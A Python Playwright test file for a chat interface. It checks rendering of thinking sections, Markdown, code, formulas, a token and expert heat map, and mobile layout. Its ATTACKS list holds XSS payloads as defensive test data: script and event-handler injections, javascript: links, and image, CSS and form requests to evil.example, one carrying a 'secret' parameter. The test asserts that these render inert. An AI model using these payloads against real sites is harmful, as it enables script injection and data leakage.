"""What the chat page makes of an answer: thinking, Markdown, code, formulas, attacks, tokens and experts."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import Page, expect

from .asking import answer, ask
from .scripted_server import CHOSEN, EXPERTS, LAYERS, Script

MARKDOWN = r"""# Roots

The roots of $x^2 - 5x + 6 = 0$ are \(2\) and \(3\); it costs $5 and $6, $7-$8.

$$x = \frac{5 \pm \sqrt{25 - 24}}{2}$$

```python
print("<b>", 1 < 2)  # a line so long that it has to be scrolled on every screen that is narrow: ___________________
```

| a | b |
|---|---|
| 1 | **2** |

- one
- two with `code`

Therefore \boxed{x = \frac{6}{2}}.
"""


def test_thinking_stands_apart(visit, server):
    server.scripts["riddle"] = Script(
        "It is **time**, and time alone passes.", reasoning="Let me think about it.", pause_s=0.04
    )
    page = visit()
    page.fill("#prompt", "riddle")
    page.press("#prompt", "Enter")
    thinking = answer(page).locator(".thinking")
    expect(thinking.locator("summary")).to_contain_text("Thinking")
    expect(thinking.locator(".thought")).to_be_visible()
    expect(answer(page).locator(".text strong")).to_have_text("time")
    expect(thinking.locator("summary")).to_have_text(re.compile(r"^Thought for 0\.\d s$"))
    expect(thinking.locator(".thought")).to_be_hidden()
    thought = thinking.locator("summary").inner_text()
    expect(answer(page)).to_have_attribute("aria-busy", "false")
    assert thinking.locator("summary").inner_text() == thought
    thinking.locator("summary").click()
    expect(thinking.locator(".thought")).to_have_text("Let me think about it.")
    expect(answer(page).locator(".text")).to_have_text("It is time, and time alone passes.")
    ask(page, "next")
    assert server.bodies[1]["messages"][1] == {"role": "assistant", "content": "It is **time**, and time alone passes."}


def test_code_tables_and_formulas(visit, server):
    server.scripts["show"] = Script(MARKDOWN)
    page = visit(permissions=["clipboard-read", "clipboard-write"])
    ask(page, "show")
    text = answer(page).locator(".text")
    expect(text.locator("h1")).to_have_text("Roots")
    expect(text.locator("math")).to_have_count(5)
    expect(text.locator("math mfrac")).to_have_count(2)
    assert "it costs $5 and $6, $7-$8." in text.inner_text()
    boxed = text.locator("math").last
    assert boxed.evaluate("node => node.querySelector('menclose, mrow, mpadded').outerHTML").count("border") or (
        boxed.locator("menclose, .tml-fbox").count() == 1
    )
    expect(text.locator("td strong")).to_have_text("2")
    code = text.locator("pre")
    assert code.inner_text().startswith('print("<b>", 1 < 2)')
    assert code.evaluate("node => { node.scrollLeft = 9; return node.scrollLeft; }") == 9
    text.get_by_role("button", name="Copy code").click()
    expect(page.locator("#announcer")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()").startswith('print("<b>", 1 < 2)')


def test_growing_text_looks_as_whole_text_does(visit):
    """Blocks that stay are not drawn again; the oracle draws everything anew."""
    texts = [
        MARKDOWN,
        "- a\n- b\n\n  c\n\n1. d\n\ne\n===\n\n> f\ng\n\n[h]\n\n[h]: https://example.org\n\n```\ni\n",
        "$$a\n+b$$\nc",
    ]
    page = visit()
    wrong = page.evaluate(
        """async (texts) => {
            const { Markdown } = await import("/markdown.js");
            const wrong = [];
            const looks = (markdown) => markdown.root.innerHTML.replace(/<math.*?<.math>/gs, "");
            const settled = () => new Promise((resolve) => setTimeout(resolve));
            for (const text of texts) {
                const grown = new Markdown(document.createElement("div"));
                for (let end = 0; end <= text.length; end += 3) {
                    grown.show(text.slice(0, end));
                    const whole = new Markdown(document.createElement("div"));
                    whole.show(text.slice(0, end));
                    await settled();
                    if (looks(grown) !== looks(whole)) wrong.push([text.slice(0, end), looks(grown), looks(whole)]);
                }
            }
            return wrong;
        }""",
        texts,
    )
    assert wrong == []


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 2'>",
    "<svg onload='window.hit = 3'></svg><iframe srcdoc='<script>parent.hit = 4</script>'></iframe>",
    "[link](javascript:window.hit=5) [link](data:text/html,<script>opener.hit=6</script>) [x](vbscript:x)",
    "![image](https://evil.example/leak.png?secret) ![image](javascript:window.hit=7)",
    '[a](https://example.org/"onmouseover="window.hit=8)',
    '```"><img src=x onerror=window.hit=9>\ncode\n```',
    r"$\href{javascript:window.hit=10}{x}$ $\includegraphics[width=3em]{https://evil.example/x.png}$",
    r"$\htmlStyle{background:url(https://evil.example/y.png)}{x}$ $\class{hit}{x}$ $<img src=x onerror=window.hit=11>$",
    r"$\def\a{\a\a}\a$ $\rule{99999em}{99999em}$",
    "<style>body { background: url(https://evil.example/z.png) }</style><form action=//evil.example><input></form>",
    "<a href='javascript:window.hit=12'>x</a> <math><mtext><img src=x onerror=window.hit=13></mtext></math>",
    "<https://example.org/<script>window.hit=14</script>> www.example.org",
    "$y^2$",
]


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with CSP", "without CSP"])
def test_attacks_are_inert(visit, server, bypass_csp):
    """Each wall holds alone: with the Content-Security-Policy off, what is shown is still clean."""
    attack = "\n\n".join(ATTACKS)
    server.scripts[attack] = Script(attack, reasoning=attack, calls=[(ATTACKS[1], json.dumps({"a": ATTACKS[0]}))])
    page = visit(bypass_csp=bypass_csp)
    ask(page, attack)
    page.locator(".thinking summary").click()
    page.wait_for_timeout(150)
    page.reload()
    expect(page.locator(".message")).to_have_count(2)
    expect(page.locator(".text .block").last.locator("math")).to_be_visible()  # the last, so all formulas are set
    page.wait_for_timeout(150)
    assert page.evaluate("window.hit") is None
    log = page.locator("#log")
    assert log.locator("script, img, iframe, style, object, embed, input, svg:not(.icon)").count() == 0
    assert log.locator("form:not(.card form, .edit-form)").count() == 0
    assert log.locator("math [href], math [src], math .hit, math [style*=url]").count() == 0
    attributes = log.evaluate("node => [...node.querySelectorAll('*')].flatMap(each => each.getAttributeNames())")
    assert [name for name in set(attributes) if name.startswith("on")] == []
    links = log.evaluate("node => [...node.querySelectorAll('a')].map(each => [each.protocol, each.target, each.rel])")
    assert {tuple(link) for link in links} == {
        ("https:", "_blank", "noopener noreferrer nofollow"),
        ("http:", "_blank", "noopener noreferrer nofollow"),
    }
    assert "<script>window.hit = 1</script>" in log.inner_text()


def test_look_inside(visit, server):
    page = visit()
    page.keyboard.press("Alt+i")
    ask(page, "Who glows at night?")
    assert server.bodies[0]["fireflyer"] == {"experts": True}
    tokens = page.get_by_role("option")
    expect(tokens).to_have_text(["You ", "said", ": Wh", "o gl", "ows ", "at n", "ight", "?"])
    guessed = tokens.evaluate_all("nodes => nodes.map(node => node.classList.contains('guessed'))")
    assert guessed == [place % 2 == 1 for place in range(8)]

    tokens.nth(5).click()
    expect(page.locator(".token-caption")).to_have_text("Token 6 of 8: at n, MTP had guessed it.")
    assert chosen_cells(page) == expected_cells(5)
    page.keyboard.press("ArrowRight")
    expect(tokens.nth(6)).to_be_focused()
    expect(page.locator(".token-caption")).to_contain_text("MTP had not guessed it")
    assert chosen_cells(page) == expected_cells(6)
    tokens.nth(1).hover()
    assert chosen_cells(page) == expected_cells(1)
    page.locator(".in-words summary").click()
    expect(page.locator(".in-words li").first).to_have_text("layer 1: 5, 14")

    page.keyboard.press("Alt+i")
    expect(answer(page).locator(".text")).to_have_text("You said: Who glows at night?")


def expected_cells(place: int) -> set[tuple[int, int]]:
    return {(layer, (place * 5 + layer * 3 + k * 7) % EXPERTS) for layer in range(LAYERS) for k in range(CHOSEN)}


def chosen_cells(page: Page) -> set[tuple[int, int]]:
    """The cells of the heat map, read off its pixels, that have the colour of what a token chose."""
    cells = page.locator("canvas").evaluate(
        """(canvas, [layers, experts]) => {
            const probe = document.createElement("canvas").getContext("2d");
            probe.fillStyle = getComputedStyle(canvas).getPropertyValue("--chosen");
            probe.fillRect(0, 0, 1, 1);
            const wanted = probe.getImageData(0, 0, 1, 1).data.join();
            const context = canvas.getContext("2d");
            const found = [];
            for (let layer = 0; layer < layers; layer++) {
                for (let expert = 0; expert < experts; expert++) {
                    const x = Math.floor(((expert + 0.5) * canvas.width) / experts);
                    const y = Math.floor(((layer + 0.5) * canvas.height) / layers);
                    if (context.getImageData(x, y, 1, 1).data.join() === wanted) found.push([layer, expert]);
                }
            }
            return found;
        }""",
        [LAYERS, EXPERTS],
    )
    return {(layer, expert) for layer, expert in cells}


def test_phone(visit, server):
    server.scripts["show"] = Script(MARKDOWN + "\n\n" + "W" * 200 + "\n\n$$" + "x + " * 60 + "y$$")
    page = visit(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True)
    ask(page, "show")
    expect(answer(page).locator("math").first).to_be_visible()
    assert too_wide(page) == []
    page.get_by_role("button", name="Look inside").tap()
    page.get_by_role("option").nth(3).tap()
    expect(page.locator(".token-caption")).to_contain_text("Token 4")
    assert too_wide(page) == []
    page.get_by_role("button", name="Conversations").tap()
    page.get_by_role("button", name="New chat").tap()
    expect(page.locator("#empty")).to_be_visible()
    expect(page.locator("#sidebar")).to_be_hidden()


def too_wide(page: Page) -> list[str]:
    """What would have to be scrolled sideways, other than code, tables and formulas by themselves."""
    return page.evaluate(
        """() => [document.documentElement, document.getElementById("scroller"), document.getElementById("log")]
            .filter((node) => node.scrollWidth > node.clientWidth).map((node) => node.id || node.tagName)"""
    )


def test_dark_and_light(visit):
    lightness = """() => {
        const [red, green, blue] = getComputedStyle(document.body).backgroundColor.match(/[0-9.]+/g).map(Number);
        return (red + green + blue) / 3 / 255;
    }"""
    assert visit(color_scheme="dark").evaluate(lightness) < 0.2
    assert visit(color_scheme="light").evaluate(lightness) > 0.8


def test_no_motion_for_those_who_want_none(visit):
    moving = "() => document.getAnimations().length"
    assert visit().evaluate(moving) > 0
    assert visit(reduced_motion="reduce").evaluate(moving) == 0
